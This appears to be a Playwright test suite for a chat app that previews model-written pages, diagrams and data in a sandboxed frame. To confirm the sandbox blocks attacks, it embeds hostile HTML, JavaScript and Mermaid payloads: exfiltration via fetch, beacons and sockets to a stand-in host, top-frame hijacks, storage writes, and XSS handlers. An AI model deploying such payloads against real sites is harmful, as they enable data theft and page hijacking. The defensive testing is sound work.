"""What a model wrote, seen: pages, images and diagrams in a powerless frame, and data as a table or a tree."""

import re
from collections.abc import Iterator
from threading import Event

import pytest
from playwright.sync_api import Browser, FrameLocator, Locator, expect

from tests.browser.chat_page import Chat
from tests.browser.chromium import executable
from tests.browser.conftest import ARGUMENTS
from tests.browser.forbidden_server import Elsewhere
from tests.browser.page_errors import Watch
from tests.browser.test_composer import until
from tests.standin.wire import DONE, Wire

wire = Wire("gen-1", 1_790_000_000, "openai/gpt-5.4-mini", "OpenAI")

COUNTER = """<h1>Guests</h1><button id="more">More</button> <output id="count">0</output>
<script>more.addEventListener("click", () => count.value++)</script>"""
# Whatever asks for something elsewhere as soon as it is read.
ASKS = """
<img src="http://{there}/img"><link rel="preconnect" href="http://{there}"><link rel="stylesheet" href="http://{there}/css">
<link rel="prefetch" href="http://{there}/prefetch"><iframe src="http://{there}/frame"></iframe>
<style>@import "http://{there}/import"; body {{ background: url(http://{there}/background) }}</style>
<svg><image href="http://{there}/image"/></svg><video src="http://{there}/video"></video>
<object data="http://{there}/object"></object><script src="http://{there}/script"></script>
<a id="link" href="http://{there}/link" ping="http://{there}/ping" target="_top">A link</a>
<form id="form" method="post" action="http://{there}/form"></form>
"""
ATTACKS = """
<script>
  const tries = {{
    dialogs: () => (alert("a"), confirm("b"), prompt("c"), print()),
    top: () => (top.location = "http://{there}/top"),
    open: () => window.open("http://{there}/open"),
    form: () => form.submit(),
    link: () => link.click(),
    parent: () => (parent.document.title = "mine"),
    storage: () => localStorage.setItem("x", "y"),
    cookies: () => (document.cookie = "x=y"),
    fetch: () => fetch("http://{there}/fetch").catch(() => undefined),
    own: () => fetch("/account/").catch(() => undefined),
    connect: () => document.head.append(
      Object.assign(document.createElement("link"), {{ rel: "preconnect", href: "http://{there}" }}),
    ),
    beacon: () => navigator.sendBeacon("http://{there}/beacon", "x"),
    socket: () => new WebSocket("ws://{there}/socket"),
    events: () => new EventSource("http://{there}/events"),
    worker: () => new Worker(URL.createObjectURL(new Blob(["fetch('http://{there}/worker')"]))),
    peer: () => {{
      const peer = new RTCPeerConnection({{ iceServers: [{{ urls: "stun:{there}" }}] }});
      peer.createDataChannel("x");
      peer.createOffer().then((offer) => peer.setLocalDescription(offer));
    }},
    spam: () => {{ for (let n = 0; n < 1000; n++) parent.postMessage({{ failed: "spam", escape: true }}, "*"); }},
    port: () => {{ MessagePort.prototype.postMessage = function () {{ window.port = this; }}; }},
    size: () => {{ for (let n = 0; n < 50_000; n++) document.body.append(document.createElement("b")); }},
  }};
  for (const name of Object.keys(tries).filter((name) => !self.skipped?.includes(name))) {{
    try {{ tries[name](); }} catch {{ /* the next one */ }}
  }}
  document.body.append(Object.assign(document.createElement("p"), {{ id: "tried", textContent: "Tried" }}));
</script>
"""
BODY_AFTER_MESSAGES = "new Promise((done) => setTimeout(() => done(document.body.textContent.trim())))"
LAYERS = "history.state?.layers"
SHORTENED = "The first 1,000 of 1,201 rows. Row 1201 doesn't match the header: 1 of 2 fields."
REFUSED = "Content Security Policy|sandbox|Unsafe attempt|Refused|Blocked|Ignored call|Failed to load|WebSocket"


@pytest.fixture
def elsewhere() -> Iterator[Elsewhere]:
    place = Elsewhere()
    yield place
    place.close()


def code(language: str, source: str) -> str:
    return f"[[say ```{language}\n{source}\n```]]"


def shows(chat: Chat, language: str, source: str, button: str = "Preview") -> Locator:
    """The panel of an answer that is this block of code, all of which comes at once."""
    chat.standin.answers_raw([wire.text(f"```{language}\n{source}\n```"), wire.chunk({}, "stop"), DONE])
    answer = chat.asks("Some code, please.")
    answer.wait_for_state("complete")
    answer.action(button).click()
    return answer.article.locator("dialog.code-view")


def frame_in(panel: Locator) -> FrameLocator:
    return panel.frame_locator("iframe")


def files_of(chat: Chat) -> list[str]:
    """What is asked for from now on."""
    paths: list[str] = []
    chat.page.on("request", lambda request: paths.append(request.url))
    return paths


# --- A page ---


def test_a_page_is_shown_without_its_scripts_until_somebody_wants_them(chat):
    asked = files_of(chat)
    answer = chat.asks(code("html", COUNTER))
    answer.wait_for_state("complete")
    expect(answer.action("Preview")).to_be_visible()
    assert not re.search("preview|code-view", str(asked)), "before the press nothing is loaded"

    answer.action("Preview").click()
    panel = answer.article.locator("dialog.code-view")
    page = frame_in(panel)
    expect(page.get_by_role("heading", name="Guests")).to_be_visible()
    expect(panel.get_by_role("status")).to_have_text("This page has scripts. They're off.")
    expect(answer.article.locator("pre")).to_be_hidden()
    expect(answer.action("Preview")).to_have_attribute("aria-expanded", "true")
    page.get_by_role("button", name="More").click()
    expect(page.locator("output")).to_have_text("0")

    panel.get_by_role("button", name="Run scripts").click()
    expect(panel.get_by_role("status")).to_have_text("Scripts are on, without network access.")
    page.get_by_role("button", name="More").click()
    expect(page.locator("output")).to_have_text("1")
    panel.get_by_role("button", name="Stop scripts").click()
    expect(panel.get_by_role("button", name="Run scripts")).to_be_visible()
    panel.get_by_role("button", name="Source", exact=True).click()
    expect(answer.article.locator("pre")).to_be_visible()
    expect(answer.action("Preview")).to_be_focused()
    assert not [url for url in asked if "mermaid" in url]


def test_a_page_without_scripts_offers_none(chat):
    panel = shows(chat, "HTML", "<p>Only words, and <a href='#x'>a link</a>.</p>")

    expect(frame_in(panel).get_by_text("Only words")).to_be_visible()
    expect(panel.get_by_role("status")).to_have_text("")
    expect(panel.get_by_role("button", name="Run scripts")).to_be_hidden()


def test_scripts_in_attributes_count_as_well(chat):
    chat.watch.expects("Executing inline event handler")  # what the browser says of those that are off
    panel = shows(chat, "html", """<button onclick="this.textContent = 'Pressed'">Press</button>""")
    panel.get_by_role("button", name="Run scripts").click()
    expect(panel.get_by_role("button", name="Stop scripts")).to_be_visible()
    frame_in(panel).get_by_role("button").click()

    expect(frame_in(panel).get_by_role("button")).to_have_text("Pressed")


def test_a_block_is_shown_while_the_answer_goes_on_and_after_a_reload(chat):
    may_end = Event()
    chunks = [
        wire.text(f"```html\n{COUNTER}\n```\n\nMore"),
        may_end,
        wire.text(" words."),
        wire.chunk({}, "stop"),
        DONE,
    ]
    chat.standin.answers_raw(chunks)
    answer = chat.asks("A page, please.")
    answer.wait_for_text("More")
    answer.action("Preview").click()
    page = frame_in(answer.article.locator("dialog.code-view"))
    expect(page.get_by_role("heading", name="Guests")).to_be_visible()
    may_end.set()
    answer.wait_for_state("complete")
    expect(page.get_by_role("heading", name="Guests")).to_be_visible()

    chat.page.reload()
    chat.answer.action("Preview").click()
    expect(page.get_by_role("heading", name="Guests")).to_be_visible()


def test_a_block_of_a_continued_answer_is_shown(chat):
    chat.standin.answers_raw([wire.text(f"```html\n{COUNTER}\n"), wire.chunk({}, "length"), DONE])
    answer = chat.asks("A page, please.")
    answer.wait_for_state("complete")
    chat.standin.answers_raw([wire.text("<p>Continued</p>\n```\n"), wire.chunk({}, "stop"), DONE])
    answer.action("Continue").click()
    answer.wait_for_text("Continued")
    answer.wait_for_state("complete")
    chat.answer.action("Preview").click()

    page = frame_in(chat.answer.article.locator("dialog.code-view"))
    expect(page.get_by_role("heading", name="Guests")).to_be_visible()
    expect(page.get_by_text("Continued")).to_be_visible()


def test_each_of_several_answers_has_its_own(chat):
    chat.visits("/?compare=anthropic/claude-haiku-4.5")
    chat.writes(code("html", COUNTER))
    chat.send.click()
    expect(chat.conversation.get_by_role("button", name="Preview")).to_have_count(2)
    for number in range(2):
        chat.conversation.get_by_role("button", name="Preview").nth(number).click()
        page = chat.conversation.locator("dialog.code-view").nth(number).frame_locator("iframe")
        expect(page.get_by_role("heading", name="Guests")).to_be_visible()


def test_full_screen_is_left_by_every_way(chat):
    panel = shows(chat, "html", COUNTER)
    page = frame_in(panel)
    panel.get_by_role("button", name="Run scripts").click()
    page.get_by_role("button", name="More").click()
    full = panel.get_by_role("button", name="Full screen", exact=True)

    def escape_inside() -> None:
        page.get_by_role("button", name="More").focus()
        chat.page.keyboard.press("Escape")

    address = chat.page.url
    for leave in (
        lambda: chat.page.keyboard.press("Escape"),
        lambda: chat.page.go_back(),
        lambda: panel.get_by_role("button", name="Exit full screen").click(),
        escape_inside,
    ):
        full.click()
        expect(panel).to_have_js_property("clientWidth", chat.page.viewport_size["width"])
        expect(panel.get_by_role("button", name="Exit full screen")).to_be_focused()
        until(chat, lambda: chat.page.evaluate(LAYERS) == 1)
        leave()
        expect(full).to_be_focused()
        until(chat, lambda: not chat.page.evaluate(LAYERS))
        assert chat.page.url == address
        expect(page.locator("output")).to_have_text("1")  # it is still the same page


# --- Hostile pages ---


def test_without_the_policy_they_would_arrive(chat, elsewhere):
    """The other tests would notice."""
    chat.watch.expects(f"{elsewhere.address}|{REFUSED}|Failed to fetch")
    elsewhere.page = "<script>skipped = ['dialogs', 'top', 'open', 'form', 'link']</script>"
    elsewhere.page += (ASKS + ATTACKS).format(there=elsewhere.address)
    tab = chat.browser.new_page()
    tab.goto(f"http://{elsewhere.address}/page", wait_until="commit")

    ways = {"datagram", "/img", "/css", "/frame", "/video", "/script", "/fetch", "/beacon", "/socket", "/events"}
    until(chat, lambda: ways <= set(elsewhere.arrived))
    tab.close()


@pytest.mark.parametrize("language", ["html", "svg"])
def test_a_hostile_page_reaches_nobody_and_the_chat_goes_on(chat, elsewhere, language):
    chat.watch.expects(f"{elsewhere.address}|{REFUSED}")
    source = (ASKS + ATTACKS).format(there=elsewhere.address)
    panel = shows(chat, language, f"<svg></svg>{source}" if language == "svg" else source)
    page, tabs = frame_in(panel), len(chat.browser.pages)
    expect(page.get_by_text("A link")).to_be_visible()
    page.get_by_text("A link").click()
    expect(panel.get_by_role("status")).to_contain_text("Files from other sites aren't loaded.")
    expect(page.locator("#tried")).to_have_count(0)

    panel.get_by_role("button", name="Run scripts").click()
    expect(page.locator("#tried")).to_have_text("Tried")
    page.get_by_text("A link").focus()
    chat.page.keyboard.press("Escape")  # now the page has the port
    page.locator("body").evaluate("() => delete MessagePort.prototype.postMessage")
    assert page.locator("body").evaluate("() => document.referrer") == ""
    chat.asks("[[say Still there.]]").wait_for_text("Still there.")
    expect(panel.get_by_role("status")).to_have_text("Scripts are on, without network access.")
    assert chat.page.title() != "mine"
    assert elsewhere.arrived == []
    assert len(chat.browser.pages) == tabs
    assert chat.page.evaluate("localStorage.getItem('x')") is None


def test_a_page_that_leaves_gets_nowhere(chat, elsewhere):
    chat.watch.expects(f"{elsewhere.address}|{REFUSED}")
    panel = shows(chat, "html", f"<p>Here</p><script>location = 'http://{elsewhere.address}/'</script>")
    expect(frame_in(panel).get_by_text("Here")).to_be_visible()
    panel.get_by_role("button", name="Run scripts").click()
    expect(frame_in(panel).get_by_text("Here")).to_have_count(0)

    chat.asks("[[say Still there.]]").wait_for_text("Still there.")
    assert elsewhere.arrived == []


def test_the_addresses_of_frames_show_nothing_in_a_tab_of_their_own(chat):
    for kind in ("page", "scripts", "diagram"):
        tab = chat.in_another_tab(f"/preview/{kind}/")
        tab.page.evaluate("postMessage({ source: '<p>Mine</p>', language: 'html' }, '*', [new MessageChannel().port1])")
        assert (
            tab.page.evaluate("new Promise((done) => setTimeout(() => done(document.body.textContent.trim())))") == ""
        )
        assert tab.page.evaluate("origin") == "null"


def test_a_page_in_a_tab_of_its_own_is_as_powerless(chat, elsewhere):
    chat.watch.expects(f"{elsewhere.address}|{REFUSED}")
    source = (ASKS + ATTACKS).format(there=elsewhere.address)
    chat.asks(code("html", source)).wait_for_state("complete")
    menu = str(chat.answer.article.locator("[data-menu]").get_attribute("href"))
    tab = chat.in_another_tab(menu)
    with tab.page.expect_popup() as opened:
        tab.page.get_by_role("link", name="Preview 1: HTML").click()
    expect(opened.value.get_by_text("A link")).to_be_visible()

    expect(opened.value.locator("#tried")).to_have_count(0)
    assert elsewhere.arrived == []


@pytest.fixture
def isolated(browser: Browser, site, standin, person, watches) -> Iterator[Chat]:
    """A Chromium as on desktops, where a sandboxed frame has a process of its own. The tests' own one shares them."""
    arguments = [*(each for each in ARGUMENTS if each != "--process-per-site"), "--site-per-process"]
    own = browser.browser_type.launch(executable_path=executable(), args=arguments)
    context = own.new_context(base_url=site.url)
    watches.append(Watch(context, site_url=site.url, openrouter_url=standin.url))
    chat = Chat(context.new_page(), standin=standin, watch=watches[-1])
    chat.is_signed_in(person)
    chat.visits("/")
    yield chat
    own.close()


def test_an_endless_loop_stops_only_its_own_page(isolated):
    panel = shows(isolated, "html", "<p>Here</p><script>setTimeout(() => { for (;;); })</script>")
    expect(frame_in(panel).get_by_text("Here")).to_be_visible()
    panel.get_by_role("button", name="Run scripts").click()

    isolated.asks("[[say Still there.]]").wait_for_text("Still there.")
    panel.get_by_role("button", name="Stop scripts").click()
    expect(frame_in(panel).get_by_text("Here")).to_be_visible()


# --- Images and diagrams ---


def test_an_image_is_shown_and_saved(chat):
    for language in ("svg", "xml"):
        source = '<svg viewBox="0 0 40 20"><rect width="40" height="20" fill="red"/></svg>'
        panel = shows(chat, language, f'<?xml version="1.0"?>\n{source}')
        expect(frame_in(panel).locator("rect")).to_be_visible()
        with chat.page.expect_download() as svg:
            panel.get_by_role("button", name="Download as SVG").click()
        assert (svg.value.suggested_filename, svg.value.path().read_text().count("xmlns=")) == ("image.svg", 1)
        with chat.page.expect_download() as png:
            panel.get_by_role("button", name="Download as PNG").click()
        header = png.value.path().read_bytes()[:24]
        assert (header[1:4], int.from_bytes(header[16:20]), int.from_bytes(header[20:24])) == (b"PNG", 80, 40)
        with chat.page.expect_download() as written:
            panel.get_by_role("button", name="Download source").click()
        assert written.value.path().read_text().strip() == f'<?xml version="1.0"?>\n{source}'


def test_other_xml_has_no_preview(chat):
    answer = chat.asks(code("xml", "<feed><svg/></feed>"))
    answer.wait_for_state("complete")
    expect(answer.action("Copy")).to_be_visible()

    expect(answer.action("Preview")).to_have_count(0)


def test_a_diagram_is_drawn_in_the_colours_of_the_page(chat):
    asked = files_of(chat)
    chat.page.emulate_media(color_scheme="light")
    panel = shows(chat, "mermaid", "flowchart LR\n  a[Flour] --> b[Bread]")
    drawn = frame_in(panel).locator("svg")
    expect(drawn).to_contain_text("Bread")
    assert len([url for url in asked if "mermaid" in url]) == 1
    light = drawn.locator("rect").first.evaluate("rect => getComputedStyle(rect).fill")
    chat.page.emulate_media(color_scheme="dark")
    dark = drawn.locator("rect").first
    until(chat, lambda: dark.evaluate("rect => getComputedStyle(rect).fill") != light)

    for name, start in (("SVG", b"<svg "), ("PNG", b"\x89PNG")):
        with chat.page.expect_download() as download:
            panel.get_by_role("button", name=f"Download as {name}").click()
        assert download.value.path().read_bytes().startswith(start)


def test_a_diagram_that_is_wrong_says_where(chat):
    panel = shows(chat, "mermaid", "flowchart LR\n  a --> b\n  a --> ]\n  b --> c")

    expect(panel.get_by_role("status")).to_contain_text("This can't be drawn:")
    expect(panel.get_by_role("status")).to_contain_text("line 3")


def test_a_hostile_diagram_runs_nothing(chat, elsewhere):
    chat.watch.expects(f"{elsewhere.address}|{REFUSED}")
    there = f"http://{elsewhere.address}"
    source = f"""%%{{init: {{"securityLevel": "loose", "themeCSS": "* {{ background: url({there}/css) }}"}}}}%%
flowchart LR
  a["<img src='{there}/img' onerror='document.body.innerHTML = 0'>"] --> b[Bread]
  click b href "javascript:document.body.innerHTML=0"
  click a call alert()"""
    panel = shows(chat, "mermaid", source)
    bread = frame_in(panel).get_by_text("Bread").first
    expect(bread).to_be_visible()
    bread.click()

    expect(bread).to_be_visible()
    assert elsewhere.arrived == []


# --- Data ---


def test_csv_is_a_table_that_can_be_sorted(chat):
    source = 'Name;Price\n"Bread; dark";10\n"The ""best""\ncake";9\n<b>Salt</b>;100\n'
    panel = shows(chat, "csv", source, "Table")
    rows = panel.get_by_role("row")
    expect(rows).to_have_count(4)
    expect(panel.get_by_role("status")).to_have_text("3 rows.")
    assert rows.nth(2).get_by_role("cell").all_text_contents() == ['The "best"\ncake', "9"]
    for direction, first in (("ascending", "9"), ("descending", "100")):
        panel.get_by_role("button", name="Price").click()
        expect(panel.get_by_role("columnheader", name="Price")).to_have_attribute("aria-sort", direction)
        expect(rows.nth(1).get_by_role("cell").last).to_have_text(first)
    expect(rows.nth(1).get_by_role("cell").first).to_have_text("<b>Salt</b>")


def test_a_long_table_is_cut_and_says_so(chat):
    panel = shows(chat, "tsv", "a\tb\n" + "".join(f"{n}\tx,y\n" for n in range(1200)) + "odd", "Table")

    expect(panel.get_by_role("row")).to_have_count(1001)
    expect(panel.get_by_role("status")).to_have_text(SHORTENED)


@pytest.mark.parametrize(
    ("language", "source", "words"),
    [
        ("csv", 'a,b\n1,"x', "the quote at line 2, column 3 is never closed"),
        ("csv", 'a,b\n"x"y,2', "line 2, column 4 has text after a closing quote"),
        ("json", '{\n  "a": 1,\n  "b": }', "see line 3, column 8"),
        ("json", "[1, 2", "see line 1, column 6"),
        ("json", '{"a": 01}', "see line 1, column 8"),
        ("json", '{"a": "x\ny"}', "see line 1, column 7"),
        ("json", "[" * 5000, "nested more than 100 levels"),
        ("csv", 'a\n"' + "long " * 20_000, "the quote at line 2, column 1 is never closed"),
        ("json", '["' + "long " * 20_000, "see line 1, column 2"),
    ],
)
def test_what_is_wrong_with_data_is_said(chat, language, source, words):
    panel = shows(chat, language, source, "Table" if language == "csv" else "Tree")

    expect(panel.get_by_role("status")).to_contain_text(words)


def test_json_is_a_tree(chat):
    chat.browser.grant_permissions(["clipboard-read", "clipboard-write"])
    source = '{"id": 12345678901234567890, "a b": [{"x": "<b>\\u00e9</b>"}, null ], "many": ['
    source += ", ".join(map(str, range(1500))) + " ]}"
    panel = shows(chat, "json", source, "Tree")
    expect(panel.get_by_text("12345678901234567890")).to_be_visible()
    panel.get_by_text("a b: ").click()
    panel.get_by_text("0: ", exact=True).click()
    panel.get_by_text("<b>é</b>").click()
    expect(panel.get_by_role("status")).to_have_text('$["a b"][0].x')
    panel.get_by_role("button", name="Copy path").click()
    expect(panel.get_by_role("button", name="Copied")).to_be_visible()
    assert chat.page.evaluate("navigator.clipboard.readText()") == '$["a b"][0].x'

    panel.get_by_text("many: ").click()
    expect(panel.locator(".number")).to_have_count(1001)
    panel.get_by_role("button", name="Show more").click()
    expect(panel.locator(".number")).to_have_count(1501)
